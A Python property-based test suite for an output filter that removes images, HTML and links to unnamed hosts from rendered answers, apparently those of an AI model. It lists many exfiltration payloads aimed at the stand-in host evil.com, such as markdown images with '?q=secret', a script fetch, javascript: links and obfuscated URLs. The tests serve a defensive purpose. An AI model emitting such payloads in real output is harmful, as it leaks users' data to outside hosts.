"""The output gate, against CommonMark renderers: whatever the text, no image, no HTML, no link that nobody named."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nodes.gate import NOTHING_LEFT, TEXT_CHARS, gate
from nodes.links import Named, links_of, named_by

NAMED = named_by(["What does good.example say?"], ["https://docs.example/a?b=1"])
NOBODY = Named()


def renderers() -> list[MarkdownIt]:
    """CommonMark as it is, without its own refusal of addresses, with tables, and with markdown-it's own defaults."""
    credulous = MarkdownIt("commonmark")
    credulous.validateLink = lambda _: True
    tables = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    return [MarkdownIt("commonmark"), credulous, tables, MarkdownIt("js-default", {"html": True})]


RENDERERS = renderers()


def rendered(tokens):
    for token in tokens:
        yield token
        yield from rendered(token.children or ())


def host_of(address: str) -> str:
    """The host as a careless reader sees it: what stands between the slashes and the next delimiter."""
    return re.sub(r"^(?:[a-z][a-z0-9+.-]*:)?[\\/]*", "", address.lower()).replace("\\", "/").split("/")[0].split("?")[0]


def assert_harmless(text: str, hosts: set[str]) -> None:
    for renderer in RENDERERS:
        for token in rendered(renderer.parse(text)):
            assert token.type not in {"image", "html_block", "html_inline"}, (text, token.content)
            if token.type == "link_open":
                assert host_of(token.attrGet("href")).split("#")[0] in hosts, (text, token.attrs)
            elif token.type in {"text", "code_inline", "fence", "code_block"}:
                for address in re.findall(
                    r"(?:https?:[\\/]{2}|\bwww\.(?=[\w-]))[^\s<>]+", token.content, re.IGNORECASE
                ):
                    assert host_of(address).split("#")[0].rstrip(".,;:!?)]'\"*_`}~|") in hosts, (text, address)


SPACES = [
    " ",
    "  ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "\n> ",
    "\n- ",
    "\n    ",
    "\n\n    ",
    "|---|---|\n",
    "\r",
    "\u2028",
    "\x00",
]
TRICKS = """
! [ ] ( ) < > ` `` ``` ~~~ * _ ** | # \\ / : ; & ' " = - + . , ? @ % ^ { } a x1 1 E2 [1] [E2] [^1] [^1]: [a] [a]: [1]:
![a] ![ ]( ][ ]: (< >) <!-- --> <? ?> <![CDATA[ ]]> <b> </b> <img <script> <a src=x href= onerror=x
http https http:// HTTPS:// // \\\\ :// http:\\ evil.com evil.com/x www. www.evil.com good.example https://evil.com/?q=
https://good.example/ https://good.example@evil.com https://good.example\\@evil.com javascript: javascript:a
&#58; &colon; &#x2f; &period; &lt; &amp; &#104;ttp %3A%2F data:text/html,x mailto:a@evil.com bob@evil.com
xn--e1awd7f.com \u0435vil.com http://\u0435vil.com \u200b \u200d \u202e \u00ad \ufeff \U000e0041 \U0001f600 \u3002
\uff0e
"""
PIECES = st.sampled_from([*SPACES, *TRICKS.split()])


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
@example("[a]\n\n[a]:\nhttp://evil.com\n'title'")
@example("[![a](http://evil.com/i.png)](http://evil.com)")
@example("https://good.example\u200b.evil.com/x")
@example("<a href='http://evil.com'\n>x</a>")
def test_whatever_is_put_together_nothing_gets_through(text):
    gated = gate(text, NAMED)
    assert_harmless(gated.text, {"good.example", "docs.example"})
    assert gate(gated.text, NAMED).text == gated.text
    assert_harmless(gate(text, NOBODY).text, set())


@settings(deadline=None)
@given(st.text(max_size=300))
def test_arbitrary_text_gets_nothing_through(text):
    assert_harmless(gate(text, NOBODY).text, set())


@given(
    st.text(
        st.characters(whitelist_categories=("L", "N", "Zs"), whitelist_characters=".,;!?'\"()–—%°×=+-*\n"), max_size=200
    )
)
def test_prose_is_left_as_it_is(text):
    gated = gate(text, NOBODY)
    if not gated.removed:
        assert gated.text == text.replace("\r", "\n")


ATTACKS = {
    "image": "![x](https://evil.com/?q=secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.com/i.png",
    "image in a link": "[![x](https://evil.com/a)](https://evil.com/b)",
    "inline link": "[here](https://evil.com/?q=secret)",
    "link with a title": '[here](https://evil.com "a title")',
    "link in angle brackets": "[here](<https://evil.com/a b>)",
    "nested brackets": "[a [b [c]]](https://evil.com)",
    "reference": "[here][r]\n\n[r]: https://evil.com",
    "collapsed reference": "[here][]\n\n[here]: https://evil.com",
    "shortcut reference": "[here]\n\n[here]: https://evil.com",
    "reference over two lines": "[here]\n\n[here]:\n  https://evil.com",
    "footnote": "Here[^1]\n\n[^1]: https://evil.com",
    "citation marker as a link": "So it is [1].\n\n[1]: https://evil.com",
    "autolink": "<https://evil.com/?q=secret>",
    "mail": "<bob@evil.com>",
    "bare": "see https://evil.com/?q=secret",
    "bare without scheme": "see www.evil.com/x or evil.com/?q=secret",
    "scheme of the page": "[a](//evil.com/x) //evil.com/x",
    "upper case": "HTTPS://EVIL.COM/x [a](HtTpS://EvIl.CoM)",
    "percent": "[a](https://%65vil.com) [b](http%3A%2F%2Fevil.com)",
    "punycode": "[a](https://xn--vil-8cd.com/) https://xn--vil-8cd.com/",
    "entities": "[a](&#104;ttps://evil.com) &#104;ttps://evil.com https&#58;//evil.com",
    "escapes": r"https\://evil.com https:\/\/evil.com [a](https\://evil.com)",
    "backslashes": r"[a](https:\\evil.com) [b](\\evil.com)",
    "zero width": "ht\u200btps://evil.com [a](htt\u2060ps://evil.com) \u200bwww.evil.com",
    "behind a good one": "https://good.example/&lt;https://evil.com https://good.example/|https://evil.com",
    "in emphasis behind a good one": "https://good.example/*https://evil.com* https://good.example/_www.evil.com_",
    "credentials": "[a](https://good.example@evil.com) https://good.example@evil.com/",
    "host inside a host": "https://good.example.evil.com/ [a](https://good.example.evil.com)",
    "another dot": "https://good.example\u3002evil.com/",
    "javascript": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) javascript:alert(1)",
    "data": "[a](data:text/html;base64,AAAA) ![b](data:image/png;base64,AAAA)",
    "html image": "<img src=https://evil.com/?q=secret>",
    "html image over lines": "<img\nsrc='https://evil.com/'\n>",
    "html block": "<div>\n<a href='https://evil.com'>x</a>\n</div>",
    "script": "<script>fetch('https://evil.com')</script>",
    "comment": "a <!-- [b](https://evil.com) --> c",
    "svg": "<svg onload=alert(1)>",
    "in a table": "| a | b |\n|---|---|\n| `c | [d](https://evil.com)` |",
    "in a quote": "> [a](https://evil.com)",
    "in a list": "- a\n  - ![b](https://evil.com)",
    "in code": "`https://evil.com/?q=secret`",
    "in a fence": "```mermaid\nclick A \"https://evil.com\"\n```",
    "relative": "[a](/logout) [b](?q=1) ![c](c.png)",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_every_known_way_out_is_shut_and_counted(attack):
    gated = gate(f"Jupiter is large [1]. {attack}", NAMED)
    assert_harmless(gated.text, {"good.example"})
    assert "evil.com" not in gated.text.lower() or "mail" in attack or "bob@" in attack
    assert sum(gated.removed.values()) > 0
    assert gated.text.startswith("Jupiter is large [1].")
    assert "removed from the answer" in gated.said


@pytest.mark.parametrize(
    "text",
    [
        "142984 km / 12756 km = 11.21 [1][2]",
        "If a < b and c > d, then 3<4. Really![1]",
        "- one [1]\n- two [E2]\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nx = handlers[name](request)  # List<String>, a<b\n```",
        "Use `<b>` and `[x](y)` for that.",
        "See [there](https://good.example/a), <https://good.example/b> or https://good.example/c?d=e#f.",
        "It says https://docs.example/a?b=1.",
        "It was https://good.example/web/2020/https://b.example/c?d=https://e.example&amp;f=1_2.",
        "Torque is 5 N.mm/s at 1.2/3.4 and/or TCP/IP; data: 5 (jupiter.md, characters 3-20).",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u06a9\u062a\u0627\u0628\u200c\u0647\u0627",
    ],
)
def test_what_is_allowed_stays_to_the_letter(text):
    assert gate(text, NAMED).text == text
    assert gate(text, NAMED).said is None


def test_only_what_offends_goes():
    text = (
        'See [the map](https://evil.com/m "m") and [the page](https://good.example/p) [1]. ![pic](https://evil.com/p)'
    )
    gated = gate(text, NAMED)
    assert gated.text == "See the map and [the page](https://good.example/p) [1]. (image removed)"
    assert gated.removed == {"link": 1, "image": 1}
    assert gated.said.startswith("1 image and 1 link were removed from the answer")


def test_a_place_that_metadata_names_may_be_linked_to_as_it_stands_and_in_no_other_way():
    links = links_of({"source": "https://docs.example/a", "more": ["see http://b.example.", 3], "by": "c.example"})
    assert links == ["https://docs.example/a", "http://b.example"]
    named = named_by([], links)
    assert gate("https://docs.example/a", named).text == "https://docs.example/a"
    assert gate("https://docs.example/a?q=secret", named).text == "(link removed)"


def test_an_answer_of_nothing_else_says_so():
    assert gate("<img src=x>", NOBODY).text == NOTHING_LEFT


def test_endless_text_is_cut_with_a_mark_and_read_in_bounded_time():
    gated = gate("[![" * TEXT_CHARS, NOBODY)
    assert len(gated.text) < TEXT_CHARS + 100
    assert f"… (cut: {TEXT_CHARS} of" in gated.text
    assert_harmless(gated.text, set())
